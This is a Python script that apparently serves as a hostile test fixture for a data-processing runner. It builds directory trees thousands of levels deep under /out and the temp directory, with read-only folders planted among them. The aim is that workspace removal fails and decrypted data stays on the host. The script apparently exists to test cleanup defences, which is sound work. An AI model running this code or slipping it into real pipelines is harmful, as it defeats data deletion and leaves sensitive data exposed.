"""Hostile program: leave a tree deeper than a recursive remover can walk (folders without permissions among it),
so that removing the workspace fails and the decrypted dataset stays on the host.

Self-contained, so it also serves as the body of a fake ``dp_runner/__main__.py``. It always exits with status 3
(the attack shows only afterwards: the workspace is still there); options as JSON in HOSTILE_ARGS or under
"hostile" in the spec file: {"levels": N} (default 3000).
"""

import json
import os
import sys


def hostile_args() -> dict:
    raw = os.environ.get("HOSTILE_ARGS")
    if raw:
        return json.loads(raw)
    if len(sys.argv) > 1:
        try:
            with open(sys.argv[1]) as fh:
                spec = json.load(fh)
            return spec.get("hostile", {}) if isinstance(spec, dict) else {}
        except (OSError, ValueError):
            return {}
    return {}


def log(message: str) -> None:
    print(json.dumps({"event": "log", "message": message}), flush=True)


def main() -> None:
    levels = int(hostile_args().get("levels", 3000))
    for top in (os.environ.get("HOSTILE_OUT", "/out"), os.environ.get("TMPDIR", "/tmp")):
        fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
        for i in range(levels):
            os.mkdir("d" * 100, dir_fd=fd)
            deeper = os.open("d" * 100, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            if i % 500 == 499:
                os.mkdir("ro", dir_fd=deeper)
                os.close(os.open("ro/f", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=deeper))
                os.chmod("ro", 0o500, dir_fd=deeper)  # read-only: a naive remover cannot unlink in it
            os.close(fd)
            fd = deeper
        os.close(fd)
    log(f"left two trees {levels} deep")
    sys.exit(3)


main()
